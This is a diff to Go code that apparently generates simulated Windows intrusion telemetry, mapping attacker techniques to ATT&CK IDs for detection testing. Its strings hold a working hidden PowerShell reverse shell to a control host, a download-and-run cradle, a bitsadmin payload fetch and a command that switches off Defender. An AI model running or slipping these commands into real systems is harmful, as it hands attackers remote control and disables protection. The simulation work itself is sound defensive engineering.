@@ -10,7 +10,7 @@ import (
 
 func windowsPlants() []Plant {
 	win := func(id, title, techniques string, roles []Role, sow func(s *sowing)) Plant {
-		return attack(id, title, techniques, roles, windowsFormats, sow)
+		return hostile(id, title, techniques, roles, windowsFormats, sow)
 	}
 	any := anyWindows
 	return []Plant{
@@ -19,11 +19,11 @@ func windowsPlants() []Plant {
 		win("lsass-procdump", "Memory of LSASS dumped with ProcDump", "T1003.001", any, sowProcdump),
 		win("ntds-ifm", "Directory database copied with ntdsutil", "T1003.003", onlyDC, sowNTDS),
 		win("dcsync", "Directory secrets replicated by an account that is no controller", "T1003.006", onlyDC, sowDCSync),
-		win("powershell-encoded", "PowerShell with an encoded command that opens a connection", "T1059.001 T1027", any, sowEncoded),
+		win("powershell-encoded", "PowerShell with an encoded command that opens a connection", "T1059.001 T1027 T1095", any, sowEncoded),
 		win("powershell-download", "PowerShell that runs what it downloads", "T1059.001 T1105", any, sowCradle),
 		win("scheduled-task", "Scheduled task that runs a script from ProgramData", "T1053.005", any, sowTask),
 		win("service-install", "Service that starts a hidden PowerShell", "T1543.003 T1569.002", any, sowService),
-		win("new-admin", "New account that becomes an administrator", "T1136.002 T1136.001 T1098", []Role{DomainController, FileServer, Workstation, ExchangeServer}, sowNewAdmin),
+		win("new-admin", "New account that becomes an administrator", "T1136.002 T1098", []Role{DomainController, FileServer, Workstation, ExchangeServer}, sowNewAdmin),
 		win("log-clear", "Event logs cleared", "T1070.001", any, sowClear),
 		win("defender-off", "Protection of Windows Defender switched off", "T1562.001", any, sowDefenderOff),
 		win("kerberoast", "Weakly encrypted service tickets, one after the other", "T1558.003", onlyDC, sowRoast),
@@ -31,7 +31,7 @@ func windowsPlants() []Plant {
 		win("rdp-lateral", "Remote desktop from a server to the domain controller", "T1021.001 T1078.002", onlyDC, sowRDP),
 		win("psexec", "PsExec from another server", "T1021.002 T1569.002", any, sowPsExec),
 		win("wmi-exec", "Process started over WMI", "T1047", any, sowWMI),
-		win("dll-sideload", "Renamed program that loads a DLL beside it", "T1574.002 T1036", any, sowSideload),
+		win("dll-sideload", "Renamed program that loads a DLL beside it", "T1574.001 T1036", any, sowSideload),
 		win("run-key", "Run key that starts a program at logon", "T1547.001", any, sowRunKey),
 		win("certutil-download", "Tool fetched with certutil", "T1105 T1140", any, sowCertutil),
 		win("bitsadmin-download", "Tool fetched with BITS", "T1197 T1105", any, sowBitsadmin),
@@ -165,13 +165,13 @@ func encoded(s string) string {
 }
 
 func sowEncoded(s *sowing) {
-	code := `$c=New-Object System.Net.Sockets.TCPClient('` + s.raid.control + `',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}`
+	code := `$c=New-Object System.Net.Sockets.TCPClient('` + s.raid.control + `',443);$s=$c.GetStream();$b=New-Object byte[] 65536;while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}`
 	s.windows(Workstation, 0, "T1059.001 T1027", "PowerShell starts hidden with an encoded command", func(w *windows) {
 		x := w.types(pPowerShell, `powershell.exe -nop -w hidden -ep bypass -enc `+encoded(code))
-		w.engine("", x)
+		w.started(x)
 		w.script(x.who, phrase{{text: code}}, "")
 	})
-	s.windows(Workstation, 2*time.Second, "T1059.001 T1071", "PowerShell opens a connection to the intruder's server", func(w *windows) {
+	s.windows(Workstation, 2*time.Second, "T1059.001 T1095", "PowerShell opens a connection to the intruder's server", func(w *windows) {
 		x := w.foothold()
 		x.program = pPowerShell
 		w.connected(x, "tcp", w.h.raid.control, "-", 443)
@@ -182,7 +182,7 @@ func sowCradle(s *sowing) {
 	line := `IEX (New-Object Net.WebClient).DownloadString('http://` + s.raid.control + `/a.ps1')`
 	s.windows(Workstation, 0, "T1059.001 T1105", "PowerShell runs a script from the internet", func(w *windows) {
 		x := w.types(pPowerShell, `powershell.exe -nop -w hidden -c "`+line+`"`)
-		w.engine("", x)
+		w.started(x)
 		w.script(x.who, phrase{{text: line}}, "")
 		w.asked(x, say(w.h.raid.domain), "0", "::ffff:"+w.h.raid.control+";")
 		w.connected(x, "tcp", w.h.raid.control, w.h.raid.domain, 80)
@@ -262,7 +262,7 @@ func sowDefenderOff(s *sowing) {
 	const line = `Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true`
 	s.windows(ExchangeServer, 0, "T1562.001", "PowerShell switches off real-time protection", func(w *windows) {
 		x := w.types(pPowerShell, `powershell.exe -nop -c "`+line+`"`)
-		w.engine("", x)
+		w.started(x)
 		w.script(x.who, phrase{{text: line}}, "")
 		w.set(w.defender, say(`HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`), say("DWORD (0x00000001)"))
 	})
@@ -348,12 +348,12 @@ func sowWMI(s *sowing) {
 func sowSideload(s *sowing) {
 	folder := s.raid.folder
 	p := newProgram(folder+`\OneDrive.exe`, "Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation", "OneDrive.exe", "19.002.0107.0005", doNothing)
-	s.windows(Workstation, 0, "T1574.002", "A signed program and a DLL for it to load are put into one folder", func(w *windows) {
+	s.windows(Workstation, 0, "T1574.001", "A signed program and a DLL for it to load are put into one folder", func(w *windows) {
 		x := w.foothold()
 		w.made(x, say(folder+`\OneDrive.exe`))
 		w.made(x, say(folder+`\version.dll`))
 	})
-	s.windows(Workstation, 6*time.Second, "T1574.002 T1036", "The program starts outside of its usual folder and loads the unsigned DLL", func(w *windows) {
+	s.windows(Workstation, 6*time.Second, "T1574.001 T1036", "The program starts outside of its usual folder and loads the unsigned DLL", func(w *windows) {
 		x := w.types(p, `"`+folder+`\OneDrive.exe"`)
 		lib := newLibrary("version.dll", "")
 		e := w.begin(smLoad)
@@ -389,11 +389,7 @@ func sowBitsadmin(s *sowing) {
 	ra := &s.raid
 	s.windows(Workstation, 0, "T1197 T1105", "bitsadmin fetches a program from an address", func(w *windows) {
 		w.types(pBitsadmin, `bitsadmin /transfer upd /download /priority high http://`+ra.control+`/b.exe `+ra.folder+`\`+ra.tool)
-		g := randomGUID(w.h.rand)
-		for _, shape := range []*shape{bitsStart, bitsDone} {
-			e := w.begin(shape)
-			e.ident(g).str("upd").ident(g).str("http://" + ra.control + "/b.exe").str("").num(0).num(73216).num(73216).num(73216).num(0).put()
-		}
+		w.transferred("upd", "http://"+ra.control+"/b.exe", 73216)
 		w.made(w.netsvcs, say(ra.folder+`\BIT%{X4}.tmp`))
 	})
 }
